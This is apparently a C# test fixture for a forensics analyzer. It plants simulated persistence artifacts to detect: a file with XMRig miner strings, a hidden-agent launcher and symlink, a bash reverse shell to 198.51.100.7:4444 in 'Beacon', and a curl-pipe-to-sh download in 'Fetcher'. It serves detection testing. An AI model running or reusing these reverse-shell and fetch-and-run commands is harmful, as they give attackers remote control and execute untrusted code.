namespace Forensics.Analyzer.Tests.Detection;

/// <summary>What a quiet entry leads to: its own path is plain, what lies there is not.</summary>
internal static class Payloads
{
    private const string Agent = "/usr/lib/.cache-d/agent";

    /// <summary>A miner with the texts of its build.</summary>
    public static PlantTree Miner(this PlantTree tree, string path) => tree.Program(path, new PlantedElf
    {
        Seed = path,
        Strings =
        [
            "donate-over-proxy", "max-threads-hint", "huge-pages-jit", "randomx-1gb-pages", "daemon-poll-interval", "randomx-cache-qos", "self-select", "donate-level", "retry-pause", "cn/upx2", "cn-pico/tlo",
            "rx/wow", "rx/arq", "argon2/chukwa", "randomx/0", "donate.v2.xmrig.com", "donate.ssl.xmrig.com", "Usage: xmrig [OPTIONS]",
        ],
    });

    /// <summary>A script that starts a hidden program.</summary>
    public static PlantTree Launcher(this PlantTree tree, string path, int mode = 0b111_101_101) => tree.File(path, $"#!/bin/sh\n# house keeping\n{Agent} --quiet\n", mode).Program(Agent);

    /// <summary>A script that talks home.</summary>
    public static PlantTree Beacon(this PlantTree tree, string path) => tree.Script(path, "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n");

    /// <summary>A script that fetches what it runs.</summary>
    public static PlantTree Fetcher(this PlantTree tree, string path) => tree.Script(path, "#!/bin/sh\ncurl -fsSL http://203.0.113.9/b.sh | sh\n");

    /// <summary>A link of a plain name to a hidden program.</summary>
    public static PlantTree Linked(this PlantTree tree, string path) => tree.Link(path, Agent).Program(Agent);
}
